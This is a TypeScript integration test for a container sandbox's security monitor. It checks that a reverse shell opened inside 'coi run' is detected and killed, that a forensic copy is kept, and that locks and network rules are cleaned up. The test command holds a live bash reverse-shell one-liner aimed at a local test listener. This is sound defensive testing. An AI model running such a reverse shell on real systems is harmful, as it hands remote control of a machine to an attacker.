import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AuditRecord } from '../../../../src/security/audit/record.js';
import { parseTableListing } from '../../../../src/security/nft/index.js';
import { listCoiTable } from '../../../../src/security/network/index.js';
import { pinnedAddresses } from '../../../../src/shared/instance-network.js';
import { workspaceHash } from '../../../../src/shared/naming.js';
import { CoiSandbox, ensureBuilt } from '../../../helpers/coi-cli.js';
import { attackerListener, closeListener } from '../../../helpers/monitor-bed.js';
import { GATEWAY, deleteTestContainer, incusApis } from '../../../helpers/testbed.js';

/**
 * A reverse shell inside `coi run`, against the monitor daemon the run starts: the responder's
 * kill races the run's own end-of-run cleanup and must win it cleanly.
 */

const CONFIG = `
[tool]
name = "claude"
binary = "coi-standin"

[monitoring]
enabled = true
forensics_on_kill = true
`;
const PORT = 40_000 + Math.floor(Math.random() * 10_000);

let box: CoiSandbox;
let listener: Awaited<ReturnType<typeof attackerListener>>;
const copies: string[] = [];

beforeAll(async () => {
  ensureBuilt();
  box = new CoiSandbox(CONFIG);
  listener = await attackerListener(PORT);
});

afterAll(async () => {
  // Also a copy a failed assertion did not get to record.
  const left = box
    ? (await incusApis().instances.names()).filter((n) => n.startsWith(`${box.prefix}forensics-`))
    : [];
  for (const copy of new Set([...copies, ...left])) await deleteTestContainer(copy);
  if (listener) await closeListener(listener);
  await box?.run(['kill', '--all', '--force']);
  await box?.remove();
});

describe('coi run and a threat kill', () => {
  it('ends as killed with a forensic copy, exits 137 naming the alert, and leaves nothing', async () => {
    const ws = box.workspace('run-threat');
    const hash = workspaceHash(ws);
    const name = `${box.prefix}${hash}-1`;
    const incus = incusApis();
    // The pinned address, read as soon as the container exists: the kill can come within
    // milliseconds of the first exec, and the network is released first.
    let running = true;
    const ip = (async () => {
      while (running) {
        const instance = await incus.instances.get(name).catch(() => undefined);
        const [address] = instance ? pinnedAddresses(instance.value) : [];
        if (address) return address;
        await new Promise((resolve) => setTimeout(resolve, 50));
      }
      return '';
    })();
    const r = await box.run(
      ['run', `echo started; sleep 1; bash -i >& /dev/tcp/${GATEWAY}/${PORT} 0>&1; echo survived`],
      { cwd: ws },
    );
    running = false;
    expect(r.code, r.stderr).toBe(137);
    expect(r.stdout).not.toContain('survived');
    const lines = r.stderr.split('\n').filter((l) => l.includes('security monitor killed'));
    expect(lines).toEqual([
      `coi: the security monitor killed ${name}: Reverse shell detected (details: coi audit ${name})`,
    ]);

    const records = readFileSync(join(box.coiDir, 'audit', `${name}.jsonl`), 'utf8')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as AuditRecord);
    const killed = records.filter((rec) => rec.action === 'killed');
    expect(killed).toHaveLength(1);
    expect(killed[0]).toMatchObject({ level: 'critical', title: 'Reverse shell detected' });
    expect(killed[0]!.response_errors).toBeUndefined();
    const copy = killed[0]!.forensic_copy!;
    expect(copy).toMatch(new RegExp(`^${box.prefix}forensics-${hash}-1-\\d+$`));
    copies.push(copy);

    const names = await incus.instances.names();
    expect(names).toContain(copy);
    expect(names.filter((n) => n.startsWith(`${box.prefix}${hash}-`))).toEqual([]);
    expect(existsSync(join(box.coiDir, 'locks', `${name}.json`))).toBe(false);
    const address = await ip;
    expect(address).not.toBe('');
    const table = parseTableListing((await listCoiTable()) ?? '{"nftables":[]}');
    expect(table.containers.has(address)).toBe(false);
    // The copy keeps no claim on the address either.
    expect(JSON.stringify((await incus.instances.get(copy)).value.devices)).not.toContain(address);
  });
});
